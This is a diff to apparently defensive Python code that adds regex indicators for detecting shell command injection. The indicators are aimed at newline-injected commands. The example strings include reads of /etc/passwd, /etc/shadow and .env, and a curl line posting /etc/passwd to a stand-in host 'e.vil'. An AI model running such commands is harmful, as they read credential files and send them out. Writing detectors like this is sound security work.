@@ -60,6 +60,17 @@ def _cmd(
     return Indicator("shell." + name, "cmd_injection", pattern, source, prior, prefilter, examples)
 
 
+# The beginning of a line, as it is and as JSON has it.
+_LINES = tuple(
+    f"{line} *(?:sudo )?(?:/(?:usr/)?s?bin/)?(?:{programs}) "
+    for line in (r"\n", r"\\n", r"\r", r"\\r")
+    for programs in (
+        "cat|tac|head|tail|less|more|nl|rm|mv|cp|tee|touch|chmod|chown|find|grep|dd|tar|ls|crontab",
+        "bash|sh|zsh|ksh|dash|source|python3?|perl|php|ruby|node",
+        "curl|wget|nc|ncat|telnet|nslookup|dig|ping|ssh|scp|tftp|socat",
+    )
+)
+
 # fmt: off
 SHELL = (
     _cmd(
@@ -130,6 +141,8 @@ SHELL = (
     _cmd("bare_command", r"^[\s'\"]*(?:cat|wget|curl|whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|nslookup|ls|dir|ps|pwd|id|phpinfo|hostname|ver|env|set|net\s+user|ps\s+aux|ls\s+-\w+|uname\s+-\w|id\s+-\w|w|arp\s+-a|ps\s+-ef)[\s'\";|&#]*$", _OWASP, WEAK, examples=('id',)),
     _cmd("edge_separator", r"^\s*(?:;|\|\|?|&&?|`|\$\()\s*[\w/.]|\S\s*[;|&`]\s*$", _OWASP, WEAK, examples=('&&',)),
     _cmd("newline_command", r"(?:\n|\r|%0a|%0d|\\n)[ \t\x0b\x0c]*(?:/(?:usr/)?s?bin/)?(?:cat|id|ls|wget|curl|whoami|ping|uname|nc|bash|sh|sleep|ifconfig|ipconfig|dir|netstat|nslookup)(?:\s+[-/\w.]|\s*$|[|&;`%])", _OWASP, examples=('\\nid;',)),
+    _cmd("line_of_its_own", r"[\r\n][ \t]*(?:sudo )?(?:/(?:usr/)?s?bin/)?(?:(?:cat|tac|head|tail|less|more|nl|rm|mv|cp|tee|touch|chmod|chown|find|grep|bash|sh|zsh|ksh|dash|source|python3?|perl|php|ruby|node|dd|tar|ls|crontab) (?:-[^\s]+ )*(?:\d+ )?['\"]?(?:/\w|~/|\.[a-z./]|\$[({a-z])|(?:bash|sh|zsh|ksh|dash) \w+[ \t]*(?:[\r\n]|$)|(?:curl|wget|nc|ncat|telnet|nslookup|dig|ping|ssh|scp|tftp|socat) [^\r\n]*(?:\w\.[a-z]{2}|\d\.\d|:/|@/|\$[({a-z]))", _OWASP, 0.5,
+         prefilter=_LINES, examples=("x\ncat /etc/passwd\nok", "x\nsh x\nok", "x\ncurl -d @/etc/passwd e.vil\nok", "a\ncat .env\nb", "a\ntail -n 5 /etc/shadow\nb")),
     _cmd("newline_last", r"[\r\n][ \t]*(?:env|id|set|ls|ps|whoami|uname|ver|dir|pwd|netstat|ifconfig|ipconfig|hostname|printenv)\s*(?:;|\||&|`|$)", _OWASP, STRONG, examples=('127.0.0.1\nid',)),
     _cmd("admin_command", r"^[\s'\"\\;|&(`]*" + _PREFIX + r"*" + _BIN + r"?['\"]?" + ADMIN_PROGRAMS + r"['\"]?(?:\.exe)?(?:\s|[;|&<>,/]|$)", _GTFO, MEDIUM, examples=(';htop',)),
     _cmd("admin_alone", r"^\s*" + ADMIN_PROGRAMS + r"\s*$", _GTFO, 0.1, examples=('visudo',)),
